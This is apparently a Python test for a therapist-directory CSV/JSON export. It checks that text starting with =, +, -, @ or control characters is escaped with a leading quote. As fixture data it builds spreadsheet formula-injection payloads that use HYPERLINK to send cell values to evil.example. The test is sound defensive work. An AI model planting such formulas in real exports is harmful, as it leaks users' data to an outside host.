# `world` reads on PostgreSQL, so it comes after every test of `world`.


def test_text_beginning_like_a_formula_is_escaped_and_the_package_still_validates(app, tmp_path):
    """Issue 23: therapist and practice text that begins with =, +, -, @, a tab, a carriage
    return or a line feed reaches the CSV files with a leading single quote, quoted; latitude and
    longitude stay bare numbers (a negative longitude too), ordinary text is as it was, the
    package still validates, and the JSON files keep the text itself."""
    starts = [c for c in csvfile.FORMULA_STARTS if c != "\0"]  # PostgreSQL stores no NUL
    formulas = [f'{c}HYPERLINK("https://evil.example/?"&A{i},"Book")' for i, c in enumerate(starts)]
    spa = Tenant(slug="formula-spa", name=formulas[0], kind="spa", description=formulas[3])
    for i, text in enumerate(formulas):
        p = add_practitioner(f"therapist-{i}", tenant=spa, licenses=[("NJ", "verified", None)],
                             offices=["07030"], name=text, headline=text if i % 2 else "",
                             bio=text, phone="+1 201 555 0100")  # fmt: skip
        p.offices[0].street = p.offices[0].city = text
        p.specialties.append(Specialty(kind="clt", issuer=text, number="K-1", status="verified",
                                       expires_on=date.today() + timedelta(days=300)))  # fmt: skip
    add_practitioner("ora-ordinary", tenant=spa, licenses=[("NJ", "verified", None)],
                     offices=["07030"], headline="Medical massage for sciatica")  # fmt: skip
    db.session.commit()
    out = tmp_path / "export"
    export.write(out)

    report = validate(str(out / "csv" / "datapackage.json"))
    assert report.valid, report.flatten(["type", "message"])[:5]
    escaped = {"'" + text for text in formulas}
    assert {r["name"] for r in _rows(out, "contact")} == escaped | {"Ora Ordinary"}
    described = {"'" + (f"{t}\n\n{t}" if i % 2 else t) for i, t in enumerate(formulas)}
    assert {r["description"] for r in _rows(out, "service")} == described | {
        "Medical massage for sciatica"
    }
    addresses = _rows(out, "address")
    assert {r["address_1"] for r in addresses} == escaped | {"1 Main St"}
    assert {r["city"] for r in addresses} == escaped | {"Hoboken"}
    assert {(r["state_province"], r["postal_code"], r["country"]) for r in addresses} == {
        ("NJ", "07030", "US")
    }
    assert {r["number"] for r in _rows(out, "phone")} == {"'+1 201 555 0100"}
    assert escaped <= {r["value"] for r in _rows(out, "attribute")}
    [org] = _rows(out, "organization")
    assert (org["name"], org["description"]) == ("'" + formulas[0], "'" + formulas[3])
    assert {r["name"] for r in _rows(out, "location")} == {
        f"'{formulas[0]}, {street}, {city}"
        for street, city in [*zip(formulas, formulas, strict=True), ("1 Main St", "Hoboken")]
    }

    # Every text cell is quoted and no number is: read back keeping quoted cells as text, the
    # coordinates are numbers and everything else text.
    path, names = export.columns()["location"]
    with (out / "csv" / path).open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))
    assert rows[0] == names and len(rows) == len(formulas) + 2
    for row in rows[1:]:
        cells = dict(zip(names, row, strict=True))
        assert isinstance(cells.pop("latitude"), float)
        assert cells.pop("longitude") < 0
        assert all(isinstance(cell, str) for cell in cells.values())

    # No cell of any text column begins like a formula; the JSON holds the text itself.
    for resource in export.columns():
        for row in _rows(out, resource):
            for column, cell in row.items():
                if column not in ("latitude", "longitude"):
                    assert not cell.startswith(csvfile.FORMULA_STARTS), (resource, column, cell)
    assert {c["name"] for s in _read(out, "services") for c in s["contacts"]} == {
        *formulas,
        "Ora Ordinary",
    }
